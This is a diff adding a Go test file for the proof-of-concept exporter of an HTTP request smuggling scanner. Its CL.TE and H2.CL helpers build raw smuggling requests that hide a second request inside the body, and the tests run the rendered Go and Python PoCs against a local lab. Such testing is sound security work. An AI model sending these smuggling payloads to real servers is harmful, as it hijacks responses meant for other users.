@@ -0,0 +1,227 @@
+package poc_test
+
+import (
+	"bytes"
+	"go/parser"
+	"go/token"
+	"io"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"reflect"
+	"smuggler/smuggler"
+	"smuggler/smuggler/lab"
+	"smuggler/smuggler/poc"
+	"strconv"
+	"strings"
+	"testing"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// CL.TE: the attack smuggles the prefix of a request to a missing path, the victim on another
+// connection gets its response
+func clteFinding(target string) smuggler.Finding {
+	u, _ := url.Parse(target)
+	prefix := "GET /hopefully404 HTTP/1.1\r\nX-Ignore: X"
+	body := "0\r\n\r\n" + prefix
+	return smuggler.Finding{
+		Target:    target,
+		Technique: smuggler.CLTE,
+		Mutation:  "TE-B-001",
+		PoC: []smuggler.PoCRequest{
+			{Conn: 0, Proto: smuggler.ProtoH1, Raw: "POST / HTTP/1.1\r\nHost: " + u.Host + "\r\nTransfer-Encoding: chunked\r\n" +
+				"Content-Length: " + strconv.Itoa(len(body)) + "\r\n\r\n" + body},
+			{Conn: 1, Proto: smuggler.ProtoH1, Raw: "GET / HTTP/1.1\r\nHost: " + u.Host + "\r\n\r\n"},
+		},
+	}
+}
+
+// H2.CL: the injected content-length makes the back-end stop before the body
+func h2clFinding(target string) smuggler.Finding {
+	u, _ := url.Parse(target)
+	fields := func(method string, extra ...smuggler.PoCField) []smuggler.PoCField {
+		return append([]smuggler.PoCField{
+			{Name: ":authority", Value: u.Host},
+			{Name: ":method", Value: method},
+			{Name: ":path", Value: "/"},
+			{Name: ":scheme", Value: "https"},
+		}, extra...)
+	}
+	return smuggler.Finding{
+		Target:    target,
+		Technique: smuggler.H2CL,
+		Mutation:  "CL-B-001",
+		PoC: []smuggler.PoCRequest{
+			{Conn: 0, Proto: smuggler.ProtoH2, Fields: fields("POST", smuggler.PoCField{Name: "content-length", Value: "0"}),
+				Body: "GET /hopefully404 HTTP/1.1\r\nX-Ignore: X"},
+			{Conn: 1, Proto: smuggler.ProtoH2, Fields: fields("GET")},
+		},
+	}
+}
+
+func render(t *testing.T, format string, f smuggler.Finding) []poc.File {
+	files, err := poc.Render(format, f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return files
+}
+
+func TestRenderRaw(t *testing.T) {
+	f := clteFinding("http://a.example/")
+	files := render(t, "raw", f)
+	if len(files) != 2 || files[0].Name != "-conn1.raw" || string(files[0].Data) != f.PoC[0].Raw || string(files[1].Data) != f.PoC[1].Raw {
+		t.Errorf("Wanted: a file per connection with the requests as they are, Got: %+v", files)
+	}
+
+	// h2: preface, SETTINGS then the frames of each request, fields as they are
+	f = h2clFinding("https://a.example/")
+	f.PoC[1].Fields = append(f.PoC[1].Fields, smuggler.PoCField{Name: "X-CRLF", Value: "a\r\nb\x00"})
+	files = render(t, "raw", f)
+	if len(files) != 2 {
+		t.Fatalf("Wanted: 2 files, Got: %d", len(files))
+	}
+	for i, file := range files {
+		data, ok := bytes.CutPrefix(file.Data, []byte(http2.ClientPreface))
+		if !ok {
+			t.Fatal("Wanted: the client preface")
+		}
+		fr := http2.NewFramer(io.Discard, bytes.NewReader(data))
+		var fields []smuggler.PoCField
+		var body []byte
+		dec := hpack.NewDecoder(4096, func(f hpack.HeaderField) {
+			fields = append(fields, smuggler.PoCField{Name: f.Name, Value: f.Value})
+		})
+		for {
+			frame, err := fr.ReadFrame()
+			if err == io.EOF {
+				break
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			switch frame := frame.(type) {
+			case *http2.HeadersFrame:
+				if _, err := dec.Write(frame.HeaderBlockFragment()); err != nil {
+					t.Fatal(err)
+				}
+			case *http2.DataFrame:
+				body = append(body, frame.Data()...)
+			}
+		}
+		if !reflect.DeepEqual(fields, f.PoC[i].Fields) || string(body) != f.PoC[i].Body {
+			t.Errorf("request %d: Wanted: %+v %q, Got: %+v %q", i, f.PoC[i].Fields, f.PoC[i].Body, fields, body)
+		}
+	}
+}
+
+func TestRenderScripts(t *testing.T) {
+	python, _ := exec.LookPath("python3")
+	for _, f := range []smuggler.Finding{clteFinding("http://a.example/"), h2clFinding("https://a.example/")} {
+		t.Run(string(f.Technique), func(t *testing.T) {
+			src := render(t, "go", f)[0].Data
+			if _, err := parser.ParseFile(token.NewFileSet(), "poc.go", src, 0); err != nil {
+				t.Errorf("invalid Go PoC: %v\n%s", err, src)
+			}
+			if !bytes.HasPrefix(src, []byte("//go:build ignore\n")) {
+				t.Error("Wanted: the Go PoC to be excluded from builds")
+			}
+
+			turbo := string(render(t, "turbo", f)[0].Data)
+			if strings.Count(turbo, "engine.queue(") != len(f.PoC) {
+				t.Errorf("Wanted: %d queued requests, Got:\n%s", len(f.PoC), turbo)
+			}
+			if f.Technique == smuggler.H2CL && !strings.Contains(turbo, "Engine.BURP2") || !strings.Contains(turbo, "# victim") {
+				t.Errorf("unexpected Turbo Intruder script:\n%s", turbo)
+			}
+
+			if len(python) == 0 {
+				return
+			}
+			dir := t.TempDir()
+			for _, format := range []string{"python", "turbo"} {
+				path := filepath.Join(dir, format+".py")
+				os.WriteFile(path, render(t, format, f)[0].Data, 0644)
+				if out, err := exec.Command(python, "-m", "py_compile", path).CombinedOutput(); err != nil {
+					t.Errorf("invalid %s PoC: %s", format, out)
+				}
+			}
+		})
+	}
+
+	if _, err := poc.Render("nope", clteFinding("http://a.example/")); err == nil {
+		t.Error("Wanted an error for an unknown format")
+	}
+	if _, err := poc.Render("raw", smuggler.Finding{Target: "http://a.example/"}); err == nil {
+		t.Error("Wanted an error for a finding without PoC requests")
+	}
+}
+
+func TestExport(t *testing.T) {
+	dir := t.TempDir()
+	paths, err := poc.Export(dir, poc.Formats, clteFinding("http://a.example:8080/"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, p := range paths {
+		rel, _ := filepath.Rel(dir, p)
+		names = append(names, filepath.ToSlash(rel))
+	}
+	want := []string{"a.example/clte-te-b-001-conn1.raw", "a.example/clte-te-b-001-conn2.raw", "a.example/clte-te-b-001.go",
+		"a.example/clte-te-b-001.py", "a.example/clte-te-b-001-turbo.py"}
+	if !reflect.DeepEqual(names, want) {
+		t.Errorf("Wanted: %v, Got: %v", want, names)
+	}
+}
+
+// the PoCs are run against the lab: the victim must get the response of the smuggled request
+func TestPoCLab(t *testing.T) {
+	if testing.Short() {
+		t.Skip("runs the PoCs")
+	}
+	table := []struct {
+		profile string
+		finding func(string) smuggler.Finding
+	}{
+		{"clte", clteFinding},
+		{"h2cl", h2clFinding},
+	}
+	for _, Case := range table {
+		t.Run(Case.profile, func(t *testing.T) {
+			l, err := lab.Start(lab.Profiles[Case.profile], "")
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer l.Close()
+			f := Case.finding(l.URL())
+
+			dir := t.TempDir()
+			run := map[string][]string{"go": {"go", "run"}, "python": {"python3"}}
+			for format, cmd := range run {
+				if _, err := exec.LookPath(cmd[0]); err != nil {
+					t.Logf("%s: %s not found", format, cmd[0])
+					continue
+				}
+				path := filepath.Join(dir, "poc-"+format)
+				os.WriteFile(path, render(t, format, f)[0].Data, 0644)
+				if format == "go" {
+					os.Rename(path, path+".go")
+					path += ".go"
+				}
+				c := exec.Command(cmd[0], append(cmd[1:], path)...)
+				c.Dir = "../.." // the Go PoC is run from the root of the module
+				out, err := c.CombinedOutput()
+				if err != nil {
+					t.Fatalf("%s: %v\n%s", format, err, out)
+				}
+				if lines := strings.Split(strings.TrimSpace(string(out)), "\n"); len(lines) != 2 || !strings.Contains(lines[1], "404") {
+					t.Errorf("%s: Wanted: the victim to get 404, Got:\n%s", format, out)
+				}
+			}
+		})
+	}
+}